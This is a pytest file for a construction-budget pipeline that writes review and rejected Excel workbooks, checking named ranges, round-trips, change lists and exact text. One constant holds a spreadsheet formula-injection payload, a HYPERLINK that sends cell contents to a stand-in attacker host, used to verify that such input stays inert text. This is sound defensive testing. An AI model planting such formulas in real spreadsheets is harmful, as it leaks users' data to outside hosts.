"""The workbooks we write: the review workbook's contract, the rejected workbook's round trip,
and no live formula in anything a person opens."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl

from pipeline.adapters.reading.budget_reader import read_budget
from pipeline.adapters.reading.review_reader import read_saved_review
from pipeline.adapters.validation.budget_validation import check_budget
from pipeline.adapters.validation.rules_files import ValidationRules
from pipeline.adapters.writing.rejected_workbook import write_rejected_workbook
from pipeline.adapters.writing.review_workbook import write_review_workbook
from pipeline.domain.budget import BudgetDocument, BudgetLine, LineKey
from pipeline.domain.changes import ResendAssessment, assess_resend
from pipeline.domain.lifecycle import Action, Submission
from pipeline.domain.review import LineFlag, Rejection
from pipeline.services.ports import ReviewContent

NOW = datetime(2026, 11, 27, 9, 30, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _line(row: int, code: str, kind: str, amount: str, description: str = "Work") -> BudgetLine:
    return BudgetLine(
        row=row,
        sub_job="",
        cost_code=code,
        cost_type=kind,
        description=description,
        amount=Decimal(amount),
    )


def _document(lines: tuple[BudgetLine, ...]) -> BudgetDocument:
    return BudgetDocument(
        project_number="P-7",
        lines=lines,
        project_name="Depot",
        prepared_by="Ada Admin",
        stated_total=sum((line.amount for line in lines), Decimal("0.00")),
    )


def _content(document: BudgetDocument, resend: ResendAssessment | None = None) -> ReviewContent:
    submission = Submission(
        project_number="P-7",
        version=2 if resend else 1,
        action=Action.SEND,
        file_name="in.xlsx",
        file_sha256="0" * 64,
        fingerprint="f",
        sender="Ada Admin",
        at=NOW,
        review_file="P-7_v1_review.xlsx",
        line_count=len(document.lines),
        total=str(document.total),
    )
    return ReviewContent(
        submission=submission,
        document=document,
        approvers=["Carl Accountant"],
        warnings=[],
        resend=resend,
    )


def test_review_workbook_has_the_contracted_names_dropdown_and_line_columns(tmp_path: Path) -> None:
    target = tmp_path / "review.xlsx"
    write_review_workbook(_content(_document((_line(2, "01-100", "L", "10.00"),))), target)

    book = openpyxl.load_workbook(target)
    for name in ("Decision", "Reason", "Approver"):
        destinations = list(book.defined_names[name].destinations)
        assert len(destinations) == 1 and destinations[0][0] == "Review"
    sheet, ref = next(iter(book.defined_names["Decision"].destinations))
    validations = book[sheet].data_validations.dataValidation
    assert any(
        ref.replace("$", "") in str(v.sqref) and v.formula1 == '"Accept,Reject"'
        for v in validations
    )
    header = [c.value for c in book["Lines"][1]]
    assert "Line Decision" in header and "Line Note" in header


def test_a_blank_review_workbook_reads_as_no_decision(tmp_path: Path) -> None:
    target = tmp_path / "review.xlsx"
    write_review_workbook(_content(_document((_line(2, "01-100", "L", "10.00"),))), target)
    decision = read_saved_review(target, 1).decision
    assert (decision.answered, decision.flags) == (False, ())


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    amount, qty, cost = Decimal("25.00"), Decimal("2"), Decimal("12.5")
    priced = BudgetLine(
        row=3,
        sub_job="",
        cost_code="02-200",
        cost_type=HOSTILE,
        description=HOSTILE,
        amount=amount,
        unit_qty=qty,
        uom=HOSTILE,
        unit_cost=cost,
    )
    document = _document((_line(2, "01-100", "L", "10.00", HOSTILE), priced))
    review, rejected = tmp_path / "review.xlsx", tmp_path / "rejected.xlsx"
    write_review_workbook(_content(document), review)
    flag = LineFlag(priced.key, HOSTILE)
    write_rejected_workbook(
        document,
        Rejection(version=1, approver="Carl", at=NOW, reasons=(HOSTILE,), flags=(flag,)),
        rejected,
    )

    formulas = {}
    for path in (review, rejected):
        book = openpyxl.load_workbook(path)
        cells = [(ws.title, c) for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert any(c.value == HOSTILE for _, c in cells)
        formulas[path.name] = {
            f"{t}!{c.coordinate}": c.value for t, c in cells if c.data_type == "f"
        }
    # The only formulas are ours: none in the review, the total and a priced amount handed back.
    assert formulas == {
        "review.xlsx": {},
        "rejected.xlsx": {"Budget!B4": "=SUM(H7:H5006)", "Budget!H8": "=ROUND(E8*G8,2)"},
    }


def test_the_rejected_workbook_reads_back_as_the_same_budget(tmp_path: Path) -> None:
    lines = (
        _line(2, "01-100", "L", "12000.00"),
        _line(3, "03-300", "M", "45000.50"),
        BudgetLine(
            row=4,
            sub_job="B",
            cost_code="09-900",
            cost_type="S",
            description="Paint",
            amount=Decimal("8000.00"),
            unit_qty=Decimal("2.5"),
            uom="EA",
            unit_cost=Decimal("3200"),
        ),
    )
    document = _document(lines)
    rejection = Rejection(
        version=1,
        approver="Carl",
        at=NOW,
        reasons=("too high",),
        flags=(LineFlag(LineKey("", "03-300", "M"), "check"),),
    )
    target = tmp_path / "rejected.xlsx"
    write_rejected_workbook(document, rejection, target)

    again, problems = check_budget(read_budget(target), ValidationRules())

    assert problems == []
    assert again is not None
    assert again.fingerprint() == document.fingerprint()
    assert again.prepared_by == "Ada Admin"


def test_resend_review_lists_changes_and_reasons(tmp_path: Path) -> None:
    before = (_line(2, "01-100", "L", "10.00"), _line(3, "02-200", "M", "20.00"))
    after = (_line(2, "01-100", "L", "15.00"), _line(3, "04-400", "E", "5.00"))
    rejection = Rejection(
        version=1,
        approver="Carl",
        at=NOW,
        reasons=("01-100 is too low",),
        flags=(LineFlag(LineKey("", "02-200", "M"), "not ours"),),
    )
    target = tmp_path / "review.xlsx"
    write_review_workbook(
        _content(_document(after), assess_resend(before, after, rejection)), target
    )

    book = openpyxl.load_workbook(target)
    changes = [(r[0].value, r[2].value) for r in book["Changes"].iter_rows(min_row=2)]
    assert changes == [("amount changed", "01-100"), ("added", "04-400"), ("removed", "02-200")]
    assert [c.value for c in book["Earlier Reasons"][3]] == [
        "Reason",
        "Response",
        "Line",
        "Status",
        "Why",
    ]
    statuses = [r[3].value for r in book["Earlier Reasons"].iter_rows(min_row=4)]
    assert statuses == ["looks addressed", "looks addressed"]


def test_streamed_lines_keep_markup_spaces_and_numbers_exact(tmp_path: Path) -> None:
    texts = ["<b>Tom & Jerry</b>", "  leading and trailing  ", "bell\x07 removed", "Ünïcødé €"]
    lines = tuple(_line(i + 2, f"0{i}-100", "L", f"{i}.05", text) for i, text in enumerate(texts))
    target = tmp_path / "review.xlsx"
    write_review_workbook(_content(_document(lines)), target)

    sheet = openpyxl.load_workbook(target)["Lines"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[4] for r in rows] == [
        "<b>Tom & Jerry</b>",
        "  leading and trailing  ",
        "bell removed",
        "Ünïcødé €",
    ]
    assert [r[8] for r in rows] == [0.05, 1.05, 2.05, 3.05]
    assert sheet.max_row == len(texts) + 1
    assert sheet.cell(2, 9).number_format == "#,##0.00"
